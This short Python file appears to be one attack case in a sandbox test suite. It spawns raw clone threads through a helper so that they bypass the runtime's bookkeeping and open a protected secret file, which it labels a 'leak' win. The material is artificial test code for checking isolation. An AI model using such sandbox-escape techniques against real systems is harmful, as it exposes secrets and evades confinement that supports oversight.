# SPDX-License-Identifier: Apache-2.0
# attack: a raw thread without the library's bookkeeping opens the secret
# class: clone
# wins: leak
from kit import *

tried()
path, buf = ctypes.create_string_buffer(os.fsencode(SECRET)), stat_buf()
thief = function(THIEF, *[ctypes.c_long] * 4)
for flags in (0x10f00, 0x50f00, 0x10f00 | 17):
    for _ in range(20):
        thief(flags, page(65536) + 65000, address(path), address(buf))
time.sleep(0.3)
